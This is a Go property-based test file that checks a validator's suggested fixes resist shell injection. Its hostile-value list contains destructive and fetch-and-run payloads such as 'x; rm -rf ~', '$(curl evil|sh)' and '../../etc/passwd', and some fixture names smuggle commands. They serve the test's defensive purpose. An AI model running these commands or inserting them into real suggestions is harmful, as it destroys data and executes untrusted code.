package validator_test

import (
	"regexp"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"cake"
	"cake/validator"
	"cake/validator/advice"
	"cake/validator/command"
	"cake/validator/rules"
	"cake/validator/userrules"
	"cake/validator/workspace"
)

// hostile are values that output could carry into a suggestion.
func hostile() []string {
	return []string{
		"x; rm -rf ~", "$(curl evil|sh)", "`id`", "--force", "a\nb", "a'b", "-rf", "../../etc/passwd", "a b", "--no-verify", "\x00", strings.Repeat("x", 500),
		"sudo x", "a|b", "a&b", "a>b", "*", "evil && curl x | sh", "@scope/x", "requests",
	}
}

func TestNoTemplateIsForbiddenAdvice(t *testing.T) {
	for _, r := range rules.All() {
		for _, f := range r.Fixes {
			if !advice.Harmless(f) {
				t.Errorf("%s: %q is forbidden", r.ID, f)
			}
		}
	}
}

func TestEveryProducibleFixIsSafe(t *testing.T) {
	ws := &recorded{
		Names: []string{"app.py", "src/x.py", "Makefile", "package.json", "utils/format.js", "evil;rm.py", "c.pem", "a b.c"},
		Contents: map[string]string{
			"package.json": `{"scripts":{"build":"tsc","evil; rm":"x"},"dependencies":{"axios":"1"}}`, "Makefile": "build:\n\tx\n", "requirements.txt": "requests\n-e evil\n",
		},
	}
	commands := []string{"make biuld", "pip install x --break-system-packages", "git push --force", "rm build", "npm run biuld", "python3 src/y.py", "curl -k https://x", "sudo apt-get isntall x", ""}
	rapid.Check(t, func(t *rapid.T) {
		r := rapid.SampledFrom(append(rules.All(), userRules()...)).Draw(t, "rule")
		s := advice.Slots{}
		for _, name := range regexp.MustCompile(`\?P<(\w+)>`).FindAllStringSubmatch(r.Pattern, -1) {
			s[name[1]] = rapid.OneOf(rapid.SampledFrom(hostile()), rapid.String()).Draw(t, name[1])
		}
		s["message"], s["key"], s["around"], s["file"] = rapid.String().Draw(t, "message"), "k", rapid.SampledFrom(hostile()).Draw(t, "around"), rapid.SampledFrom(hostile()).Draw(t, "file")
		f := advice.Filler{Slots: s, Tree: workspace.Of(ws), Cwd: "/srv/p", Call: command.Of(cake.Result{Command: rapid.SampledFrom(commands).Draw(t, "command")})}
		for _, fix := range f.Fixes(r.Fixes) {
			checkFix(t, r, fix, f.Call.Line)
		}
	})
}

// userRules are rules as users write them, with templates of every form.
func userRules() []rules.Rule {
	var all []rules.Rule
	for i, fixes := range [][]string{
		{"lmstat -a {host}", "make -C {dir} FEATURE={feature}"}, {"Check {host} for {feature}, then run {cmd} again"}, {"{cmd} --verbose"},
		{"cp {near:path} {path}", "ls {parent:path} {base:path}"}, {"{pip:module}", "{npm:module}"}, {"{script:name}", "{target:name}"},
	} {
		u, err := userrules.New(userrules.Rule{
			ID: "own" + string(rune('a'+i)), Fixes: fixes,
			Pattern: `^no license (?P<host>.*) (?P<feature>.*) (?P<dir>.*) (?P<path>.*) (?P<module>.*) (?P<name>.*)`,
		})
		if err != nil {
			panic(err)
		}
		all = append(all, u.Rule())
	}
	return all
}

// checkFix fails on a fix that is neither a sentence nor a command line of safe
// words. What the agent's own command line holds is its own.
func checkFix(t *rapid.T, r rules.Rule, fix, own string) {
	switch {
	case !advice.Harmless(fix):
		t.Fatalf("%s suggests %q", r.ID, fix)
	case len(fix) > advice.MaxLength+2:
		t.Fatalf("%s: %d bytes: %q", r.ID, len(fix), fix)
	case advice.IsSentence(fix):
		return
	}
	rest := regexp.MustCompile(`'[^']*'|"[^"]*"`).ReplaceAllString(fix, "Q")
	if own != "" {
		rest = strings.ReplaceAll(rest, own, "")
	}
	rest = strings.NewReplacer(" && ", " ", "; ", " ").Replace(rest)
	if strings.ContainsAny(rest, "|&;<>$`()\n*") {
		t.Fatalf("%s suggests %q", r.ID, fix)
	}
}

// Advice that is no command line begins with one of the words by which it is known as
// advice.
func TestASentenceBeginsWithAWordThatIsKnown(t *testing.T) {
	for _, r := range append(rules.All(), validator.StatusRules()...) {
		for _, template := range r.Fixes {
			if first := template[0]; first >= 'A' && first <= 'Z' && !advice.IsSentence(template) && !strings.Contains(strings.SplitN(template, " ", 2)[0], "=") && !strings.HasPrefix(template, "Rscript ") {
				t.Errorf("%s: %q is taken for a command line", r.ID, template)
			}
		}
	}
}
